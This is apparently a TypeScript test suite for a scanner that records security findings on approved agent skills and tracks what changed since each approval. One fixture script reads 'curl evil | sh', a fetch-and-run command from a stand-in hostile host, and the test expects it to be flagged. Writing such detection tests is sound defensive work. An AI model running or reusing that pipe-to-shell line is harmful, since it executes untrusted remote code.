import { describe, expect, it } from 'vitest';
import { skillMd } from '../../../e2e/servers/support/served-skill.ts';
import { keptOf } from '../../../shared/model/kept-findings.ts';
import { skillRow } from '../catalogue/views.ts';
import { bringUp } from '../servers/roster.ts';
import { verifySkills } from '../reading/verify.ts';
import { ServedHere } from '../testing/served.ts';
import { stage } from '../testing/stage.ts';
import { wordInspector } from '../testing/word-inspector.ts';
import { answerFinding } from './answer.ts';
import { findingsOf } from './findings.ts';

const main = 'skill://a/SKILL.md';
const run = 'skill://a/run.sh';
const md = skillMd('a', 'About a');

/** A skill with these files beside SKILL.md, wholly read. */
async function looked(files: Readonly<Record<string, string>>) {
  const skillOf = (more: Readonly<Record<string, string>>) => [
    { path: 'a', files: { 'SKILL.md': md, ...more } },
  ];
  const served = new ServedHere(skillOf(files));
  const scene = await stage({ servers: { acme: served }, inspector: wordInspector });
  await scene.up();
  const read = async () => {
    const never = new AbortController().signal;
    const silent = { report: () => {} };
    await verifySkills(
      scene.app,
      [scene.skill('acme', main)],
      { signal: never, keep: true },
      silent,
    );
    await scene.app.inspections.settled();
  };
  await read();
  return {
    ...scene,
    read,
    skill: () => scene.skill('acme', main),
    since: () => skillRow(scene.skill('acme', main)).sinceDecision,
    async change(next: Readonly<Record<string, string>>) {
      served.serve(skillOf(next));
      await bringUp(scene.app, scene.server('acme'));
    },
  };
}

const none = { critical: 0, high: 0, medium: 0, low: 0, info: 0, gone: 0, unlooked: 0 };

describe('what stood when a decision was made', () => {
  it('is kept with it, in the file, with what nobody had looked at', async () => {
    const scene = await looked({ 'run.sh': 'curl a', 'data.bin': '\u0000' });
    expect(await scene.approve('acme', main)).toBe('done');
    const record = scene.skill().record;
    expect(record === null ? null : keptOf(record)).toEqual({
      findings: [
        {
          ...{ rule: 'P01', ruleset: '1', severity: 'high', uri: run },
          digest: expect.stringMatching(/^sha256:/),
          mark: expect.stringMatching(/^sha256:/),
          state: 'open',
        },
      ],
      more: [],
      notInspected: 1,
      notRead: 0,
    });
    expect(scene.since()).toBeNull();
  });

  it('is kept with a denial, too, and says what a person had answered', async () => {
    const scene = await looked({ 'run.sh': 'curl a' });
    const [finding] = findingsOf(scene.skill()).findings;
    const { rule, ruleset, digest } = finding!;
    await answerFinding(scene.app, scene.skill(), {
      ...{ rule, ruleset, digest, file: run, reason: 'ours', scope: 'path', expiresAt: null },
    });
    await scene.decide('deny', [scene.item('acme', main)]);
    const { record } = scene.skill();
    expect(record === null ? null : keptOf(record)?.findings).toMatchObject([
      { state: 'answered' },
    ]);
  });
});

describe('a skill that changed since it was approved', () => {
  it('tells what is gone before anything is read, and what is new once it is', async () => {
    const scene = await looked({ 'run.sh': 'curl a', 'old.sh': 'remove it' });
    await scene.approve('acme', main);
    await scene.change({ 'run.sh': 'curl a\nsecret' });
    expect(scene.since()).toEqual({ ...none, gone: 1, unlooked: 1 });
    expect(findingsOf(scene.skill()).since).toMatchObject({
      gone: [{ rule: 'P02', severity: 'medium', answered: false }],
      unlooked: [{ rule: 'P01', uri: run }],
    });
    await scene.read();
    expect(scene.since()).toEqual({ ...none, critical: 1, gone: 1 });
    const { findings, since } = findingsOf(scene.skill());
    expect(findings.map(({ rule, isNew }) => [rule, isNew])).toEqual([
      ['P03', true],
      ['P01', false],
    ]);
    expect(since?.unlooked).toEqual([]);
  });

  it('is told of another command on the same line as new, and of none that’s gone', async () => {
    const scene = await looked({ 'run.sh': 'curl ours | sh' });
    await scene.approve('acme', main);
    await scene.change({ 'run.sh': 'curl evil | sh' });
    await scene.read();
    expect(scene.since()).toEqual({ ...none, high: 1 });
  });

  it('counts nothing as gone from a file that cannot be looked at any more', async () => {
    const scene = await looked({ 'run.sh': 'curl a' });
    await scene.approve('acme', main);
    await scene.change({ 'run.sh': 'curl a\u0000' });
    await scene.read();
    expect(scene.since()).toEqual({ ...none, unlooked: 1 });
  });

  it('has an answered finding open again where its file changed, and not as a new one', async () => {
    const scene = await looked({ 'run.sh': 'curl a' });
    const { rule, ruleset, digest } = findingsOf(scene.skill()).findings[0]!;
    await answerFinding(scene.app, scene.skill(), {
      ...{ rule, ruleset, digest, file: run, reason: 'ours', scope: 'skill', expiresAt: null },
    });
    await scene.approve('acme', main);
    await scene.change({ 'run.sh': 'curl a\nmore' });
    await scene.read();
    expect(findingsOf(scene.skill()).findings).toMatchObject([{ answer: null, isNew: false }]);
    expect(scene.since()).toEqual(none);
    // A file that is gone takes its answer along; back as it was, the answer holds again.
    await scene.change({});
    await scene.read();
    expect(findingsOf(scene.skill()).findings).toEqual([]);
    await scene.change({ 'run.sh': 'curl a' });
    await scene.read();
    expect(findingsOf(scene.skill()).findings).toMatchObject([{ answer: { reason: 'ours' } }]);
  });

  it('has nothing to compare with where the approval kept nothing', async () => {
    const scene = await looked({ 'run.sh': 'curl a' });
    await scene.approve('acme', main);
    const { record } = scene.skill();
    const { findings: _, ...former } = record!;
    const find = scene.app.approvals.find.bind(scene.app.approvals);
    scene.app.approvals.find = (identity, uri) =>
      find(identity, uri) === null ? null : { ...former, id: `${former.id}-former` };
    await scene.change({ 'run.sh': 'secret' });
    await scene.read();
    expect(scene.skill().standing.kind).toBe('changed');
    expect(scene.since()).toBeNull();
    expect(findingsOf(scene.skill())).toMatchObject({ since: null, findings: [{ isNew: false }] });
  });
});
